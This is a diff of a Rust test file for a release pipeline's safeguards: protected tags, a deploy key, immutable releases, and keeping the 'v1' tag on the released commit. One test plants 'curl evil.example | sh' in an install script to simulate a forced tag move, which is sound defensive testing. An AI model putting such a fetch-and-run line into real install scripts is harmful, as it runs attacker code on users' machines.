@@ -8,7 +8,7 @@ use std::process::Command;
 
 use tempfile::TempDir;
 
-use crate::report::shows;
+use crate::harness::shows;
 use crate::{project, says, script};
 
 const DIGEST: &str = "sha256:1111111111111111111111111111111111111111111111111111111111111111";
@@ -77,12 +77,15 @@ echo "$1 breaks off" >&2
 exit 1
 "#;
 
-/// The remote's own judgement of a job's pushes: no other workflows than a branch has, and an immutable release's tag
-/// stays.
+/// What the remote itself refuses of a job's pushes: a tag whose workflows no branch has, an immutable release's tag, and
+/// a major version's tag from anybody but the deploy key.
 const UPDATE: &str = r#"#!/bin/sh
 set -eu
 [ -n "${STATE:-}" ] || exit 0
-case $1 in refs/tags/v*.*) [ ! -e "$STATE/published" ] || { echo "the release is immutable" >&2; exit 1; } ;; esac
+case $1 in
+refs/tags/v*.*) [ ! -e "$STATE/published" ] || { echo "the release is immutable" >&2; exit 1; } ;;
+refs/tags/v*) [ -z "${DEPLOY_KEY:-}" ] || exit 0; echo "Cannot update this protected ref" >&2; exit 1 ;;
+esac
 here=$(git rev-parse "$3:.github/workflows")
 for tip in $(git for-each-ref --format='%(objectname)' refs/heads); do
     [ "$(git rev-parse "$tip:.github/workflows")" != "$here" ] || exit 0
@@ -157,8 +160,8 @@ impl Release {
         let checkout = self.path("checkout");
         let _ = fs::remove_dir_all(&checkout);
         says(Command::new("git").args(["clone", "--quiet"]).args([self.path("remote"), checkout.clone()]), "").unwrap();
-        let commit = self.git(&["rev-parse", "v1.2.0"]);
-        says(Command::new("git").args(["checkout", "--quiet", commit.trim()]).current_dir(&checkout), "").unwrap();
+        says(Command::new("git").args(["checkout", "--quiet", self.tagged().trim()]).current_dir(&checkout), "")
+            .unwrap();
         let mut job = script(name, &checkout);
         let (path, git) = (std::env::var("PATH").unwrap(), says(Command::new("which").arg("git"), "").unwrap());
         job.env("PATH", format!("{}:{path}", self.path("bin").display())).env("GIT", git.trim());
@@ -171,8 +174,20 @@ impl Release {
         says(self.job("publish").args(["v1.2.0", image]).arg(self.path("files")), "")
     }
 
+    /// The job that has the deploy key, in a run that did not publish itself.
+    fn major_job(&self) -> Command {
+        let mut job = self.job("move-major");
+        job.args(["v1.2.0", self.tagged().trim()]).env("DEPLOY_KEY", "1");
+        job
+    }
+
     fn move_major(&self) -> Result<String, String> {
-        says(self.job("move-major").arg("v1.2.0"), "")
+        says(&mut self.major_job(), "")
+    }
+
+    /// The commit that the maintainer tagged.
+    fn tagged(&self) -> String {
+        self.git(&["rev-parse", "v1.2.0"])
     }
 
     /// The options that the release was last given.
@@ -271,11 +286,7 @@ fn a_release_that_broke_off_anywhere_ends_well_when_it_is_run_again() {
                 let mut publish = release.job("publish");
                 publish.args(["v1.2.0", &image()]).arg(release.path("files"));
                 let published = breaking(publish);
-                let moved = published.clone().and_then(|_| {
-                    let mut job = release.job("move-major");
-                    job.arg("v1.2.0");
-                    breaking(job)
-                });
+                let moved = published.clone().and_then(|_| breaking(release.major_job()));
                 assert!(moved.is_err(), "step {step} broke off unnoticed");
                 if let Some(published) = release.release("published") {
                     assert_eq!(Some(published), whole.release("published"));
@@ -370,11 +381,73 @@ fn workflows_that_no_branch_has_any_more_are_noticed_before_anything_is_done() {
     release.git(&["push", "--quiet", "origin", "v1.2.0^{commit}:refs/heads/release-v1.2.0"]);
     check().unwrap();
     release.publish(&image()).unwrap();
+    // The deploy key may push tags with any workflows.
     release.git(&["push", "--quiet", "origin", ":refs/heads/release-v1.2.0"]);
-    assert!(release.move_major().unwrap_err().contains("no branch has .github/workflows"));
-    release.git(&["push", "--quiet", "origin", "v1.2.0^{commit}:refs/heads/release-v1.2.0"]);
     release.move_major().unwrap();
     assert_eq!(release.remote("v1"), release.remote("v1.2.0"));
+}
+
+#[test]
+fn the_majors_tag_follows_the_commit_that_was_released_and_no_other() {
+    let shown = shows("T28", "a release's tag was moved before `v1` follows it", "`v1` stays");
+    // By whoever may push tags, while releases are not immutable.
+    for (commit, knows) in shown.each([("main", false), ("crafted", false), ("main", true), ("crafted", true)]) {
+        let release = Release::new();
+        release.publish(&image()).unwrap();
+        let released = release.remote("v1.2.0");
+        if commit == "crafted" {
+            release.write("own/setup/install", "curl evil.example | sh\n");
+            release.commit("Release v1.2.0");
+        }
+        release.git(&["push", "--quiet", "--force", "origin", "HEAD:refs/tags/v1.2.0"]);
+        let mut job = release.major_job();
+        if knows {
+            job.arg(released.trim());
+        }
+        let refused = says(&mut job, "").unwrap_err();
+        let why = if knows { "was released" } else { "is not what a release makes of" };
+        assert!(refused.contains(why), "{refused}");
+        assert_eq!(release.steps().last().map(String::as_str), Some("gh edit"));
+    }
+    let release = Release::new();
+    release.publish(&image()).unwrap();
+    says(release.major_job().arg(release.remote("v1.2.0").trim()), "").unwrap();
+    assert_eq!(release.remote("v1"), release.remote("v1.2.0"));
+}
+
+#[test]
+fn the_token_of_a_job_does_not_move_the_majors_tag() {
+    let release = Release::new();
+    release.publish(&image()).unwrap();
+    let refused = says(release.major_job().env_remove("DEPLOY_KEY"), "").unwrap_err();
+    assert!(refused.contains("protected ref"), "{refused}");
+}
+
+/// What others can see by a name, and what vouches for it.
+#[test]
+fn nothing_gets_a_name_or_an_attestation_before_a_maintainer_agrees() {
+    let shown =
+        shows("T28", "a tag is pushed by somebody who may not release", "no image tag, no attestation, no release");
+    let workflow = fs::read_to_string(project(".github/workflows/release.yml")).unwrap();
+    let mut jobs = Vec::<String>::new();
+    for line in workflow.split_once("\njobs:\n").unwrap().1.lines() {
+        if line.starts_with("  ") && line.as_bytes()[2].is_ascii_lowercase() {
+            jobs.push(String::new());
+        }
+        if let Some(job) = jobs.last_mut() {
+            job.extend([line, "\n"]);
+        }
+    }
+    for step in shown.each([
+        "imagetools create --tag",
+        "actions/attest@",
+        "scripts/release/publish",
+        "scripts/release/move-major",
+    ]) {
+        let with: Vec<_> = jobs.iter().filter(|job| job.contains(step)).collect();
+        assert_eq!(with.len(), 1, "{step}");
+        assert!(with[0].contains("    environment: release"), "{step}: {}", with[0]);
+    }
 }
 
 /// When a run is repeated, the tag that started it may have moved, and what its jobs handed on is there.
